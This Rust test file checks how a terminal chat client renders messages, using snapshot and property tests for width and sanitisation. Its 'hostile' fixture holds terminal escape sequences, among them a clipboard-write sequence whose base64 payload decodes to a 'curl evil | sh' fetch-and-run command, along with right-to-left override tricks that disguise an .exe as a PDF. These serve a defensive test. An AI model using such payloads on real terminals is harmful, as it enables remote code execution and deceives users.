//! How messages look: rendered into a buffer and snapshotted, plus the promises that
//! hold at every width (nothing wider than the screen, nothing unsanitized).

use chrono::{DateTime, FixedOffset, Utc};
use proptest::prelude::*;
use ratatui::buffer::{Buffer, CellWidth};
use ratatui::layout::Rect;
use ratatui::style::{Color, Modifier};
use ratatui::text::Line;
use szchat::model::{Message, Sender};
use szchat::sanitize::is_unsafe_char;
use szchat::testing::{MessageBuilder, message};
use szchat::text::message_block::{day_separator, highlight, message_lines};
use szchat::timefmt::LocalZone;
use szchat::wrap::display_width;

fn at(s: &str) -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&Utc)
}

fn zone() -> LocalZone {
    LocalZone::utc()
}

/// The seed document's first message.
fn seed_visitor() -> Message {
    message(1)
        .body("test chat message")
        .at("2018-02-09T17:18:50.000Z")
        .from_visitor()
        .read_by(Some(true), Some(true))
        .build()
}

/// The seed document's second message.
fn seed_operator() -> Message {
    message(2)
        .body("test response from operator")
        .at("2018-02-09T18:18:38.000Z")
        .from_operator()
        .read_by(Some(false), Some(true))
        .build()
}

fn wide_unicode() -> Message {
    MessageBuilder::like(seed_visitor())
        .id(3)
        .body(
            "你好世界！我的订单还没到。 Café naïve e\u{301}\u{323} 👨\u{200D}👩\u{200D}👧 🇱🇹 👍🏽 ok",
        )
        .sender(Sender::Visitor {
            name: Some("王小明".into()),
            email: None,
        })
        .read_by_operator(Some(false))
        .build()
}

fn with_attachment() -> Message {
    MessageBuilder::like(seed_operator())
        .id(4)
        .body("Here is your invoice.")
        .attachment(
            "https://files.signalzen.com/uploads/3f9a/invoice-4821.pdf?X-Amz-Expires=20&X-Amz-Signature=deadbeef",
        )
        .read_by_user(None)
        .build()
}

fn attachment_only_bare_url() -> Message {
    MessageBuilder::like(seed_visitor())
        .id(5)
        .body("")
        .attachment("https://files.signalzen.com/")
        .read_by_operator(None)
        .build()
}

fn auto_invitation() -> Message {
    MessageBuilder::like(seed_operator())
        .id(6)
        .body("Hi there! Can I help you with anything today?")
        .auto_invitation(true)
        .read_by_user(Some(true))
        .build()
}

fn missing_fields() -> Vec<Message> {
    vec![
        MessageBuilder::like(seed_visitor())
            .id(7)
            .body("no name, no e-mail, no time")
            .created_at(None)
            .sender(Sender::Visitor {
                name: None,
                email: None,
            })
            .read_by_operator(None)
            .build(),
        MessageBuilder::like(seed_operator())
            .id(8)
            .body("operator known only by e-mail")
            .sender(Sender::Operator {
                forename: Some("  ".into()),
                surname: None,
                email: Some("support@shop.example".into()),
            })
            .read_by_user(None)
            .build(),
        MessageBuilder::like(seed_visitor())
            .id(9)
            .body("a sender type we do not know")
            .sender(Sender::Other {
                kind: Some("bot".into()),
            })
            .build(),
        MessageBuilder::like(seed_visitor())
            .id(10)
            .body("")
            .created_at(None)
            .sender(Sender::Other { kind: None })
            .build(),
        MessageBuilder::like(seed_visitor())
            .id(11)
            .body("name of invisible characters only")
            .sender(Sender::Visitor {
                name: Some("\u{202E}\u{200B}".into()),
                email: Some("eve@example.com".into()),
            })
            .build(),
    ]
}

fn hostile() -> Message {
    MessageBuilder::like(seed_visitor())
        .id(12)
        .body(concat!(
            "\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
            "\x1b[2J\x1b[H\x1b[10A",
            "Refund approved\rRefund denied\n",
            "\u{9B}31mred\u{9B}0m bell\x07 bs\x08\x08 del\x7F nul\0\n",
            "invoice\u{202E}fdp.exe\ttab"
        ))
        .sender(Sender::Visitor {
            name: Some("Eve\x1b[31m\u{202E}lived\x1b]0;x\x07".into()),
            email: None,
        })
        .attachment("https://x.test/a%1B%5B2J%E2%80%AEfdp.exe?sig=1")
        .build()
}

fn all_fixtures() -> Vec<Message> {
    let mut all = vec![
        seed_visitor(),
        seed_operator(),
        wide_unicode(),
        with_attachment(),
        attachment_only_bare_url(),
        auto_invitation(),
        hostile(),
    ];
    all.extend(missing_fields());
    all
}

/// Draws lines the way the conversation view does and reads the buffer back, one row
/// per line, with '|' marking the right edge. Cells hidden behind a wide character
/// are skipped so CJK and emoji read naturally.
fn render(lines: &[Line<'static>], width: u16) -> String {
    let height = u16::try_from(lines.len()).unwrap();
    let mut buf = Buffer::empty(Rect::new(0, 0, width, height));
    for (y, line) in (0..).zip(lines) {
        buf.set_line(0, y, line, width);
    }
    let mut out = String::new();
    for y in 0..height {
        let mut x = 0;
        while x < width {
            let symbol = buf[(x, y)].symbol();
            out.push_str(symbol);
            x += symbol.cell_width().max(1);
        }
        out.push_str("|\n");
    }
    out
}

fn render_all(messages: &[Message], width: u16) -> String {
    messages
        .iter()
        .map(|m| render(&message_lines(m, width, &zone()), width))
        .collect()
}

fn line_width(line: &Line<'_>) -> usize {
    line.spans.iter().map(|s| display_width(&s.content)).sum()
}

#[test]
fn seed_messages_at_60() {
    let screen = render_all(&[seed_visitor(), seed_operator()], 60);
    insta::assert_snapshot!(screen);
}

#[test]
fn seed_messages_styles() {
    // Colour, alignment and label each tell the roles apart.
    let visitor = message_lines(&seed_visitor(), 60, &zone());
    let operator = message_lines(&seed_operator(), 60, &zone());
    assert_eq!(visitor[0].spans[0].content, "");
    assert_eq!(operator[0].spans[0].content, " ".repeat(12));
    assert_eq!(visitor[0].spans[1].style.fg, Some(Color::Cyan));
    assert_eq!(operator[0].spans[1].style.fg, Some(Color::Magenta));
    insta::assert_debug_snapshot!((visitor, operator));
}

#[test]
fn wide_unicode_at_20() {
    insta::assert_snapshot!(render_all(&[wide_unicode()], 20));
}

#[test]
fn attachment_messages() {
    let messages = [with_attachment(), attachment_only_bare_url()];
    insta::assert_snapshot!("attachment_60", render_all(&messages, 60));
    insta::assert_snapshot!("attachment_24", render_all(&messages, 24));
}

#[test]
fn auto_invitation_message() {
    insta::assert_snapshot!("auto_invitation_60", render_all(&[auto_invitation()], 60));
    // Too narrow for one header line: the marker and receipt move below.
    insta::assert_snapshot!("auto_invitation_34", render_all(&[auto_invitation()], 34));
}

#[test]
fn missing_sender_fields_and_unknown_sender_type() {
    insta::assert_snapshot!(render_all(&missing_fields(), 50));
}

#[test]
fn hostile_body_is_shown_inert() {
    insta::assert_snapshot!(render_all(&[hostile()], 50));
}

#[test]
fn narrow_widths_degrade_by_truncating() {
    let messages = [seed_visitor(), seed_operator()];
    let screens: String = [1, 2, 3, 5, 8, 12, 16]
        .into_iter()
        .map(|w| format!("width {w}\n{}", render_all(&messages, w)))
        .collect::<Vec<_>>()
        .concat();
    insta::assert_snapshot!(screens);
}

#[test]
fn every_line_fits_and_is_clean_at_every_width() {
    for msg in all_fixtures() {
        for width in 1..=80u16 {
            let mut lines = message_lines(&msg, width, &zone());
            assert!(lines.len() >= 2, "message {} at {width}: {lines:?}", msg.id);
            assert_eq!(lines.last(), Some(&Line::default()), "ends with spacing");
            let before: Vec<usize> = lines.iter().map(line_width).collect();
            highlight(&mut lines);
            let after: Vec<usize> = lines.iter().map(line_width).collect();
            assert_eq!(before, after, "highlight changed widths");
            for line in &lines {
                let w = line_width(line);
                assert!(
                    w <= usize::from(width),
                    "message {} at width {width}: {w} columns: {line:?}",
                    msg.id
                );
                assert!(line.width() <= usize::from(width), "{line:?}");
                for span in &line.spans {
                    assert!(
                        !span.content.chars().any(|c| is_unsafe_char(c) || c == '\n'),
                        "unsafe text in {span:?}"
                    );
                }
            }
        }
    }
}

#[test]
fn highlight_marks_gutter_and_header() {
    let mut lines = message_lines(&seed_visitor(), 60, &zone());
    highlight(&mut lines);
    assert_eq!(
        render(&lines, 60).lines().next().unwrap().chars().next(),
        Some('▌')
    );
    assert!(
        lines[0].spans[1]
            .style
            .add_modifier
            .contains(Modifier::BOLD)
    );
    assert!(
        lines[0].spans[2]
            .style
            .add_modifier
            .contains(Modifier::REVERSED)
    );
    assert!(
        !lines[1].spans[2]
            .style
            .add_modifier
            .contains(Modifier::REVERSED)
    );
    insta::assert_snapshot!(render(&lines, 60));
}

#[test]
fn times_follow_the_injected_zone() {
    let kaunas = LocalZone::Fixed(FixedOffset::east_opt(2 * 3600).unwrap());
    let lines = message_lines(&seed_visitor(), 60, &kaunas);
    assert!(render(&lines, 60).contains("David Smith · visitor · 19:18 · ✓ seen"));
}

#[test]
fn day_separators() {
    let label = zone().day_label(at("2018-02-09T17:18:50.000Z"));
    let rows: String = [60, 24, 18, 16, 10, 1]
        .into_iter()
        .map(|w| render(&[day_separator(&label, w)], w))
        .collect();
    insta::assert_snapshot!(rows);
    for width in 0..=80 {
        let line = day_separator(&label, width);
        assert!(line_width(&line) <= usize::from(width));
        if width >= 16 {
            assert_eq!(
                line_width(&line),
                usize::from(width),
                "rule fills the width"
            );
        }
    }
    let line = day_separator("evil\x1b]0;x\x07", 30);
    assert!(
        !line
            .spans
            .iter()
            .any(|s| s.content.chars().any(is_unsafe_char))
    );
}

fn arb_opt_string() -> impl Strategy<Value = Option<String>> {
    proptest::option::of(prop_oneof![
        any::<String>(),
        "[a-zA-Z ]{0,30}",
        "\\PC{0,30}"
    ])
}

fn arb_sender() -> impl Strategy<Value = Sender> {
    prop_oneof![
        (arb_opt_string(), arb_opt_string())
            .prop_map(|(name, email)| Sender::Visitor { name, email }),
        (arb_opt_string(), arb_opt_string(), arb_opt_string()).prop_map(
            |(forename, surname, email)| Sender::Operator {
                forename,
                surname,
                email
            }
        ),
        arb_opt_string().prop_map(|kind| Sender::Other { kind }),
    ]
}

fn arb_message() -> impl Strategy<Value = Message> {
    (
        any::<String>(),
        "(\\PC|[\n\t\r\u{1b}]){0,200}",
        arb_sender(),
        arb_opt_string(),
        any::<bool>(),
        proptest::option::of(any::<bool>()),
        proptest::option::of(any::<bool>()),
        proptest::option::of(0i64..4_000_000_000),
    )
        .prop_map(
            |(body_a, body_b, sender, file_url, auto_invitation, rbu, rbo, secs)| {
                message(1)
                    .body(body_a + &body_b)
                    .created_at(secs.and_then(|s| DateTime::from_timestamp(s, 0)))
                    .sender(sender)
                    .file_url(file_url)
                    .auto_invitation(auto_invitation)
                    .read_by(rbu, rbo)
                    .build()
            },
        )
}

proptest! {
    #[test]
    fn any_message_fits_any_width(msg in arb_message(), width in 1u16..120) {
        let mut lines = message_lines(&msg, width, &zone());
        highlight(&mut lines);
        for line in &lines {
            prop_assert!(line_width(line) <= usize::from(width), "{line:?} at {width}");
            for span in &line.spans {
                prop_assert!(!span.content.chars().any(|c| is_unsafe_char(c) || c == '\n'), "{span:?}");
            }
        }
    }
}
